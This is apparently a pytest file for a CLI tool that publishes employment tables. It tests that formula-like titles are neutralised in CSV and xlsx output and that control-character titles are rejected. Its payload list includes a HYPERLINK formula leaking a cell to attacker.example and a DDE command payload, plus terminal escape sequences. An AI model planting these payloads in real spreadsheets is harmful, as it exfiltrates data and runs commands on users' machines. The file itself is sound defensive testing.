"""Tables ready to publish never carry a live spreadsheet formula: titles from a --titles file that
begin with a formula character are strings in the workbook (openpyxl's data type "s", not "f") and
behind a single quote in the qcew CSV (OWASP's CSV-injection guidance)."""

import csv
import zipfile

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from gedp.cli import app
from gedp.postprocess.publication import FORMULA_STARTS, formula_safe

runner = CliRunner()
PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\uff1dHYPERLINK(1)"]


@pytest.fixture
def hostile_titles(small_release, tmp_path):
    """A titles file giving every area and industry code of level 71 (county totals) and 78 a title
    that begins with a formula character."""
    release = small_release[0]
    codes = []
    for agglvl in ("71", "78"):
        out = tmp_path / f"plain{agglvl}.csv"
        result = runner.invoke(app, ["tabulate", str(release), "--agglvl", agglvl, "--format", "qcew",
                                     "--out", str(out)])
        assert result.exit_code == 0, result.output
        codes.append(pd.read_csv(out, dtype=str)[["area_fips", "industry_code"]])
    codes = pd.concat(codes).drop_duplicates().reset_index(drop=True)
    payload = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(codes))]
    path = tmp_path / "titles.csv"
    codes.assign(area_title=payload, industry_title=payload[::-1]).to_csv(path, index=False)
    return release, path


def test_the_qcew_csv_quotes_every_formula(hostile_titles, tmp_path):
    release, titles = hostile_titles
    out = tmp_path / "t78.csv"
    result = runner.invoke(app, ["tabulate", str(release), "--agglvl", "78", "--format", "qcew", "--titles",
                                 str(titles), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert rows
    written = {row[column] for row in rows for column in ("area_title", "industry_title")}
    assert written <= {"'" + payload for payload in PAYLOADS}, written
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())


def test_the_workbook_writes_formulas_as_strings(hostile_titles, tmp_path):
    release, titles = hostile_titles
    out = tmp_path / "book.xlsx"
    result = runner.invoke(app, ["tabulate", str(release), "--format", "xlsx", "--titles", str(titles),
                                 "--out", str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in PAYLOADS:  # the title as given, as text
                    assert cell.data_type == "s"
                    seen += 1
    assert seen > 0
    with zipfile.ZipFile(out) as archive:  # no formula element in any sheet
        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                       for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_formula_safe():
    table = pd.DataFrame({"title": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\uff0b1", "plain", "a=b", " =1"],
                          "code": ["44001"] * 10, "n": range(10)})
    safe = formula_safe(table)
    assert safe["title"].tolist() == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "'\uff0b1", "plain", "a=b",
                                      " =1"]
    assert safe["code"].tolist() == table["code"].tolist() and safe["n"].tolist() == list(range(10))
    assert table["title"][0] == "=1+1"  # the input is left as it was
    clean = table.iloc[7:]
    assert formula_safe(clean) is clean


#: Titles no table takes (red team of session 27, H1): a terminal's escape sequences (window title,
#: clear screen, colour), NUL and a vertical tab, a right-to-left override, a line separator, and a
#: title longer than MAX_TITLE_CHARACTERS; each had reached the terminal or the CSV as it was, and the
#: control characters ended --format xlsx in a 137-line IllegalCharacterError traceback (exit 1).
UNPRINTABLE = {"escapes": "\x1b]0;pwned\x07\x1b[2J\x1b[31mRed", "nul": "Rhode\x00Island\x0b",
               "override": "Rhode \u202eIsland", "line separator": "Rhode\u2028Island"}


@pytest.mark.parametrize("column", ["area_title", "industry_title"])
@pytest.mark.parametrize("case", [*UNPRINTABLE, "too long"])
@pytest.mark.parametrize("table_format", ["qcew", "xlsx", "stdout"])
def test_a_titles_file_with_a_title_no_table_takes_is_refused_in_one_line(small_release, tmp_path, column, case,
                                                                       table_format):
    from gedp.synth.titles import MAX_TITLE_CHARACTERS

    title = UNPRINTABLE.get(case, "x" * (MAX_TITLE_CHARACTERS + 1))
    titles = tmp_path / "titles.csv"
    rows = pd.DataFrame({"area_fips": ["44000", "44001"], "area_title": ["Rhode Island -- Statewide", "Bristol"],
                         "industry_code": ["101", "102"], "industry_title": ["Goods-producing", "Service-providing"]})
    rows.loc[1, column] = title
    rows.to_csv(titles, index=False)
    out = tmp_path / ("t.xlsx" if table_format == "xlsx" else "t.csv")
    request = ["tabulate", str(small_release[0]), "--agglvl", "52", "--format", "xlsx" if table_format == "xlsx"
               else "qcew", "--titles", str(titles), *([] if table_format == "stdout" else ["--out", str(out)])]
    result = runner.invoke(app, request)
    assert result.exit_code == 2, result.output
    assert f"column '{column}' holds a title" in result.output and "(first at line 3)" in result.output
    assert len(result.output.strip().splitlines()) == 1 and title not in result.output, result.output
    assert not out.exists()


@pytest.mark.shared_data
@pytest.mark.parametrize("state", ["44", "34"])
def test_the_titles_of_bls_files_are_read(shared_data, state):
    """Power of the rule above: BLS's own files (RI and NJ 2016 Q1) pass it."""
    from gedp.synth.titles import published_titles

    titles = published_titles(shared_data / f"qcew_2016q1_{state}.csv")
    assert titles.areas[f"{state}000"].endswith("-- Statewide")


def test_the_titles_gedp_ships_and_one_at_the_bound_are_read(small_release, tmp_path):
    """Power of the rule above: the shipped lists pass it, and a printable title (not ASCII) of
    MAX_TITLE_CHARACTERS is carried into the table whole."""
    from gedp.synth.titles import MAX_TITLE_CHARACTERS, shipped_titles

    shipped = shipped_titles()
    assert all(title.isprintable() and len(title) <= MAX_TITLE_CHARACTERS
               for title in (*shipped.areas.values(), *shipped.industries.values()))
    title = "Rhode Island, ä " + "x" * (MAX_TITLE_CHARACTERS - 16)
    titles = tmp_path / "titles.csv"
    pd.DataFrame({"area_fips": ["44000"], "area_title": [title], "industry_code": ["101"],
                  "industry_title": ["Goods"]}).to_csv(titles, index=False)
    out = tmp_path / "t.csv"
    result = runner.invoke(app, ["tabulate", str(small_release[0]), "--agglvl", "52", "--format", "qcew",
                                 "--titles", str(titles), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert set(pd.read_csv(out, dtype=str)["area_title"]) == {title} and len(title) == MAX_TITLE_CHARACTERS
